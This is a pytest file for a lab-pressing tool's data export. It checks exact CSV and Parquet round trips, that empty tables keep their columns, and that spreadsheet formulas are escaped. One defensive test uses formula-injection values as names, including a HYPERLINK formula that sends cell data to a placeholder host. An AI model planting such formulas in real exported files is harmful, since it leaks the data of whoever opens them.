"""What is exported is what was measured, to the last bit."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from pressloop.trials import MissingPoint, Stack, Trial
from pressloop.views.export.export import TABLES, export
from tests.views.simulated_trials import GENTLE, imported, press

READERS: dict[str, Any] = {
    "csv": pd.read_csv,
    "parquet": pd.read_parquet,
}


@pytest.fixture(scope="module")
def trials(tmp_path_factory: pytest.TempPathFactory) -> list[Trial]:
    found = press(tmp_path_factory.mktemp("export"), GENTLE[:3])
    odd = Stack('Zelle "ä", 1\nneu', "L", "o", 0.785, 600.0)
    return [replace(found[0], stack=odd, cycle_id=2**53 + 1), *found[1:]]


@pytest.mark.slow
@pytest.mark.parametrize("ending", READERS)
def test_round_trip(trials: list[Trial], tmp_path: Path, ending: str) -> None:
    paths = export(trials, tmp_path / "deep" / "out")
    assert sorted(p.name for p in paths) == sorted(f"{n}.{e}" for n in TABLES for e in READERS)
    read = {name: READERS[ending](tmp_path / "deep" / "out" / f"{name}.{ending}")
            for name in TABLES}
    for trial, row in zip(trials, read["trials"].itertuples(), strict=True):
        assert (row.trial, row.stack, row.cycle_id) == (
            trial.number, trial.stack.stack_id, trial.cycle_id)
        assert (row.pressure_mpa, row.dwell_s, row.temperature_c) == (
            trial.recipe.pressure_mpa, trial.recipe.dwell_s, trial.recipe.temperature_c)
        value = getattr(trial.outcome, "resistance_ohm_cm2", None)
        assert row.resistance_ohm_cm2 == value if value is not None else np.isnan(
            row.resistance_ohm_cm2)
        _same_arrays(trial, read)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&A1)', "+1", "-2+3", "@SUM(A1)",
                                  "\t=1+1"])
def test_no_spreadsheet_runs_a_name(trials: list[Trial], tmp_path: Path, name: str) -> None:
    bad = replace(trials[0], stack=replace(trials[0].stack, stack_id=name, lot=name,
                                           operator=name))
    export([bad, trials[1]], tmp_path)
    text = (tmp_path / "trials.csv").read_bytes().decode()
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["stack"] == row["lot"] == row["operator"] == "'" + name
    assert float(row["pressure_mpa"]) == bad.recipe.pressure_mpa
    table = pd.read_parquet(tmp_path / "trials.parquet")
    assert table["stack"].tolist() == [name, trials[1].stack.stack_id]


def test_a_carriage_return_in_a_name_ends_no_row(trials: list[Trial], tmp_path: Path) -> None:
    odd = replace(trials[0], stack=replace(trials[0].stack, stack_id="a\rb", lot="c"))
    export([odd], tmp_path)
    assert pd.read_csv(tmp_path / "trials.csv")["stack"].tolist() == ["a b"]


def _same_arrays(trial: Trial, read: dict[str, Any]) -> None:
    spectra = read["spectra"][read["spectra"].trial == trial.number]
    for spectrum in trial.spectra:
        rows = spectra[spectra.electrode == spectrum.electrode]
        z = rows.impedance_real_ohm.to_numpy() + 1j * rows.impedance_imag_ohm.to_numpy()
        assert np.array_equal(rows.frequency_hz, spectrum.frequency_hz)
        assert np.array_equal(z, spectrum.impedance_ohm)
    samples = read["traces"][read["traces"].trial == trial.number]
    assert trial.trace is not None
    for name in ("time_s", "force_n", "pressure_mpa", "position_mm", "acoustic_hits"):
        assert np.array_equal(samples[name], getattr(trial.trace, name)), name
    controls = read["controls"][read["controls"].trial == trial.number]
    assert len(controls) == sum(len(s.controls) for s in trial.spectra)


def test_missing_points_keep_their_reason(trials: list[Trial], tmp_path: Path) -> None:
    full = replace(trials[0].spectra[0], missing=(MissingPoint(0.05, "overload"),))
    export([replace(trials[0], spectra=(full,))], tmp_path)
    table = pd.read_parquet(tmp_path / "spectra.parquet")
    (row,) = table[table.missing_reason.notna()].itertuples()
    assert (row.frequency_hz, row.missing_reason) == (0.05, "overload")
    assert np.isnan(row.impedance_real_ohm)


@pytest.mark.parametrize("ending", READERS)
def test_empty_tables_keep_their_columns(trials: list[Trial], tmp_path: Path, ending: str) -> None:
    export(imported(trials), tmp_path / "imported")
    export([], tmp_path / "none")
    for folder, empty in (("imported", ("spectra", "controls", "traces")), ("none", tuple(TABLES))):
        for name in empty:
            table = READERS[ending](tmp_path / folder / f"{name}.{ending}")
            assert list(table.columns) == list(TABLES[name][0]) and len(table) == 0


def test_an_older_export_is_replaced_and_no_draft_stays(trials: list[Trial], tmp_path: Path
                                                        ) -> None:
    export(trials, tmp_path)
    paths = export(trials[:1], tmp_path)
    assert len(pd.read_csv(tmp_path / "trials.csv")) == 1
    assert sorted(tmp_path.iterdir()) == sorted(paths)


def test_presses_with_names_have_a_column():
    from dataclasses import replace

    from pressloop.trials.recipe import Recipe
    from pressloop.trials.stack import Stack
    from pressloop.trials.trial import State, Trial
    from pressloop.views.export.rows import parameter_columns

    one = Trial(1, Stack("s", "l", "o", 0.785, 600.0), Recipe(200.0, 60.0, 25.0), State.PLANNED)
    named = replace(one, press="north", recipe=replace(one.recipe, others=(("press", "belt"),)))
    assert parameter_columns([one]) == {}
    assert parameter_columns([one, named]) == {
        "press": [None, "north"], "recipe_press": [None, "belt"]}
